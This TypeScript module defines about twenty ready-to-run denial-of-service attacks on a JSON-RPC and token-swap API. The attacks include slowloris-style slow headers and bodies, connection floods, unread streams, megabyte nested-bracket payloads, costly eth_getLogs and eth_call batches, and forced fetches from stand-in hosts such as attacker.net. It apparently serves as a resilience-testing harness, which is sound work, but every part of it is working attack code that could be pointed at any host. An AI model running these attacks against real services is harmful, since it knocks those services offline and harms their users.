import { Agent, request } from 'node:http';
import { connect } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import type { Target } from './createVisitors';

/** Ways in which one visitor takes all that there is, until the signal aborts. */
export type Attack = (
  target: Target,
  parameters: { signal: AbortSignal; scale: number; orders: string; localAddress: string },
) => Promise<void>;

/**
 * Keeps `count` connections open, each of which does something when it opens and then every `everyMs`; new ones replace
 * closed ones.
 */
function keepOpen(
  count: number,
  first: (host: string) => string,
  { everyMs = 1_000, and, reads = true }: { everyMs?: number; and?: string; reads?: boolean } = {},
): Attack {
  return async ({ host, port }, { signal, scale, localAddress }) => {
    async function stay() {
      while (!signal.aborted) {
        const socket = connect({ host, port, localAddress });
        socket.on('error', () => undefined);
        if (reads) socket.resume();
        else socket.pause();
        socket.write(first(`${host}:${port}`));
        const timer = and === undefined ? undefined : setInterval(() => socket.write(and), everyMs);
        const leave = () => void socket.destroy();
        signal.addEventListener('abort', leave, { once: true });
        await new Promise((resolve) => socket.once('close', resolve));
        signal.removeEventListener('abort', leave);
        clearInterval(timer);
        // Faster, and the attacker's own machine would be what is measured.
        await pause(100);
      }
    }
    await Promise.all(Array.from({ length: Math.ceil(count * scale) }, stay));
  };
}

type Sent = { method?: 'GET' | 'POST'; path: string; body?: string | Buffer };

/** Sends requests over `count` connections, each as soon as the last was answered, or `leaveMs` after it was sent. */
function hammer(count: number, next: (index: number, orders: string) => Sent, leaveMs = 20_000): Attack {
  return async ({ host, port }, { signal, scale, orders, localAddress }) => {
    const agent = new Agent({ keepAlive: true });
    let index = 0;
    const send = ({ method = 'GET', path, body }: Sent) =>
      new Promise<void>((resolve) => {
        const headers = { origin: `http://${host}:${port}` };
        const limit = AbortSignal.any([signal, AbortSignal.timeout(leaveMs)]);
        const options = { host, port, method, path, agent, localAddress, headers, signal: limit };
        const asked = request(options, (response) => {
          response.resume();
          response.once('close', resolve);
        });
        asked.once('error', () => setTimeout(resolve, 10));
        asked.end(body);
      });
    async function work() {
      while (!signal.aborted) await send(next(index++, orders));
    }
    await Promise.all(Array.from({ length: Math.ceil(count * scale) }, work));
    agent.destroy();
  };
}

const rpc = (...calls: [method: string, params: unknown[]][]): Sent => ({
  method: 'POST',
  path: '/api/1/rpc',
  body: JSON.stringify(calls.map(([method, params], id) => ({ jsonrpc: '2.0', id, method, params }))),
});
const raw = ({ method = 'GET', path, body = '' }: Sent, host: string) =>
  `${method} ${path} HTTP/1.1\r\nHost: ${host}\r\nOrigin: http://${host}\r\nContent-Length: ${body.length}\r\n\r\n${body}`;

const toAddress = (index: number) => `0x${(Date.now() * 10_000 + index).toString(16).padStart(40, '0')}`;
const quote = (sellToken: string, more = '') =>
  `/api/1/swap/v1/quote?sellToken=${sellToken}&buyToken=ETH&sellAmount=1000000000${more}`;
const tokens = [
  '0x6B175474E89094C44Da98b954EedeAC495271d0F',
  '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48',
  '0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2',
  '0xdAC17F958D2ee523a2206206994597C13D831ec7',
  '0x2260FAC5E5542a773Aa44fBCfeDf7C193bc2C599',
];
const external = (kind: 'lists' | 'images', url: string) => `/api/${kind}?url=${encodeURIComponent(url)}`;

const manyLogs = rpc(...Array.from({ length: 4 }, (): [string, unknown[]] => ['eth_getLogs', [{}]]));
const mebibyte = 1_048_576;
const bodies = [
  `[${'0,'.repeat(mebibyte / 2 - 8)}0]`,
  '['.repeat(mebibyte / 2) + ']'.repeat(mebibyte / 2 - 8),
  `{"jsonrpc":"2.0","id":1,"method":"eth_call","params":[${'{},'.repeat(mebibyte / 3 - 40)}{}]}`,
];

/** The attacks by the budget that each is after. */
export const attacks = {
  'slow headers, 2,000 sockets': keepOpen(2_000, (host) => `GET / HTTP/1.1\r\nHost: ${host}\r\n`, {
    and: 'X-A: b\r\n',
  }),
  'slow bodies, 2,000 sockets': keepOpen(
    2_000,
    (host) => `POST /api/1/rpc HTTP/1.1\r\nHost: ${host}\r\nOrigin: http://${host}\r\nContent-Length: 1000000\r\n\r\n[`,
    { and: ' ' },
  ),
  'a flood of connections': keepOpen(400, () => 'x', {}),
  'answers that are not read': keepOpen(200, (host) => raw(manyLogs, host), { reads: false }),
  'huge bodies': hammer(50, (index) => ({
    method: 'POST',
    path: '/api/1/rpc',
    body: bodies[index % bodies.length] ?? '',
  })),
  'costly calls': hammer(50, (index) =>
    index % 2 === 0
      ? manyLogs
      : rpc(['eth_getBlockByNumber', ['latest', true]], ['eth_call', [{ gas: '0x2faf080', data: toAddress(index) }]]),
  ),
  'look-ups of named tokens': hammer(100, (index) => ({ path: quote(toAddress(index)) })),
  'quotes with simulations': hammer(100, (index) => ({
    path: quote('DAI', `&takerAddress=${toAddress(index)}&buyTokenPercentageFee=0`),
  })),
  'prices, as many as possible': hammer(100, (index) => ({
    path: `/api/1/swap/v1/price?sellToken=USDC&buyToken=DAI&sellAmount=${1_000_000_000_000 + index}`,
  })),
  'depths of many pairs': hammer(50, (index) => ({
    path: `/api/1/depth?baseToken=${tokens[index % 5]}&quoteToken=${index % 3 === 0 ? toAddress(index) : tokens[(index + 1) % 5]}`,
  })),
  'quotes that are left at once': hammer(100, (index) => ({ path: quote(toAddress(index)) }), 5),
  'long lists': hammer(50, (index) => ({ path: external('lists', `https://lists.attacker.net/long/${index}`) })),
  'slow pictures': hammer(100, (index) => ({ path: external('images', `https://pictures.attacker.net/${index}`) })),
  'names of silent name servers': hammer(100, (index) => ({
    path: external('lists', `https://n${index}.attacker.org/`),
  })),
  orders: hammer(50, (_, orders) => ({ method: 'POST', path: '/api/1/sra/v4/orders', body: orders })),
  'pages of 1,000 orders': hammer(50, () => ({ path: '/api/1/sra/v4/orders?perPage=1000' })),
  'streams, 2,000 of them': keepOpen(2_000, (host) => raw({ path: '/api/1/sra/v4/stream' }, host), { reads: false }),
  'requests, as many as possible': hammer(200, (index) => ({ path: index % 4 === 0 ? '/metrics' : '/api/config' })),
} satisfies Record<string, Attack>;
